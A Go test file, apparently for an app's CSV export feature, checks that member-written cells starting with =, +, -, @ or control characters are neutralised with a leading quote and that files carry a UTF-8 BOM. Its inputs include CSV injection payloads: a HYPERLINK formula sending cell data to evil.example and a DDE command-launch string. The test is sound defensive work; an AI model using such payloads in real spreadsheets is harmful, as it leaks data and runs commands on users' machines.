package handlers_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// TestExportNeutralisesFormulas: a cell a member wrote that a spreadsheet
// would run as a formula (=, +, -, @, tab, CR first) is written with a
// leading single quote (OWASP's CSV injection guidance), and the files
// start with a UTF-8 BOM so Excel reads accented names.
func TestExportNeutralisesFormulas(t *testing.T) {
	e := newEnv(t, 31)
	e.closedSession()
	e.must("ana", `commit =HYPERLINK("https://evil.example/?d="&H3,"Open")`)
	e.must("ana", "report C-1 progress +cmd|' /C calc'!A0")
	e.must("ben", "commit -2+3 plain")
	e.must("ben", "feedback 4 @SUM(1+1)*cmd")
	e.must("ana", "feedback 5 Café très bien")
	msg := e.must("fac", "export")
	if len(msg.Files) != 2 {
		t.Fatalf("export gave %d files", len(msg.Files))
	}
	var cells []string
	for _, f := range msg.Files {
		if !bytes.HasPrefix(f.Data, []byte("\xef\xbb\xbf")) {
			t.Errorf("%s does not start with a UTF-8 BOM", f.Name)
		}
		rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(f.Data, []byte("\xef\xbb\xbf")))).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", f.Name, err)
		}
		for _, r := range rows {
			cells = append(cells, r...)
		}
	}
	want := map[string]bool{
		`'=HYPERLINK("https://evil.example/?d="&H3,"Open")`: false,
		`'+cmd|' /C calc'!A0`:                               false,
		`'-2+3 plain`:                                       false,
		`'@SUM(1+1)*cmd`:                                    false,
		`Café très bien`:                                    false,
	}
	for _, c := range cells {
		if _, ok := want[c]; ok {
			want[c] = true
		}
		if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
			t.Errorf("cell %q would run as a formula", c)
		}
	}
	for c, seen := range want {
		if !seen {
			t.Errorf("no cell %q in the export", c)
		}
	}
}
